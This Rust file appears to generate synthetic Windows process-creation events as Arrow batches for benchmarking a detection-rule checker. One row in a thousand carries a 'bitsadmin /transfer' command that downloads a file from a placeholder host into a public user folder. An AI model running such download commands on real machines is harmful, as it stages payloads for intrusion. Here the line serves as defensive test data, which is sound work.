//! Process creations as Arrow record batches, of which one in a thousand matches.
//!
//! The names are common ones on Windows workstations. Command lines have 60 to 200 bytes.

use std::sync::Arc;

use arrow_array::{ArrayRef, Int64Array, RecordBatch, StringArray};

use rulespec_check::bench::data::Numbers;

/// One row matches per this number of rows.
pub const MATCH_INTERVAL: usize = 1_000;
/// The rows per batch, similar to DataFusion and DuckDB.
const BATCH_ROWS: usize = 65_536;

const NAMES: [&str; 12] = [
    "svchost.exe",
    "conhost.exe",
    "cmd.exe",
    "powershell.exe",
    "chrome.exe",
    "msedge.exe",
    "taskhostw.exe",
    "RuntimeBroker.exe",
    "backgroundTaskHost.exe",
    "git.exe",
    "SearchProtocolHost.exe",
    "bitsadmin.exe",
];

/// The file name and command line of a row.
fn row(index: usize, numbers: &mut Numbers) -> (&'static str, String) {
    if index.is_multiple_of(MATCH_INTERVAL) {
        let line =
            format!(r"bitsadmin /transfer job{index} http://files.example/{index} C:\Users\Public\a.bin");
        return ("bitsadmin.exe", line);
    }
    // One more row in a thousand is the program without a switch that transfers a file.
    let name = match numbers.below(1_000) {
        0 => "bitsadmin.exe",
        _ => NAMES[numbers.below(NAMES.len() - 1)],
    };
    let padding = "x".repeat(numbers.below(140));
    (name, format!(r#""C:\Windows\System32\{name}" -k netsvcs -p -s Schedule {index} {padding}"#))
}

fn batch(first: usize, rows: usize, numbers: &mut Numbers) -> RecordBatch {
    let (names, lines): (Vec<_>, Vec<_>) = (first..first + rows).map(|index| row(index, numbers)).unzip();
    let texts = |texts: Vec<String>| Arc::new(StringArray::from(texts)) as ArrayRef;
    let same = |text: &str| texts(vec![text.to_owned(); rows]);
    let name = Arc::new(StringArray::from(names.clone())) as ArrayRef;
    RecordBatch::try_from_iter([
        ("TimeGenerated", same("2026-01-02T03:04:05Z")),
        ("DeviceId", same("0a1b2c3d4e5f")),
        ("DeviceName", same("ws07.corp.example")),
        ("FileName", name.clone()),
        ("ProcessVersionInfoOriginalFileName", name),
        ("ProcessCommandLine", texts(lines)),
        ("ProcessId", Arc::new(Int64Array::from_iter_values((0..rows as i64).map(|row| row * 4)))),
        ("InitiatingProcessFolderPath", same(r"c:\windows\system32\cmd.exe")),
        ("InitiatingProcessAccountDomain", same("corp")),
        ("InitiatingProcessAccountName", same("e.larsen")),
        ("InitiatingProcessSHA256", same("")),
    ])
    .unwrap()
}

/// Batches with this number of rows in total.
pub fn batches(rows: usize) -> Vec<RecordBatch> {
    let mut numbers = Numbers::seeded();
    let first = (0..rows).step_by(BATCH_ROWS);
    first.map(|first| batch(first, BATCH_ROWS.min(rows - first), &mut numbers)).collect()
}
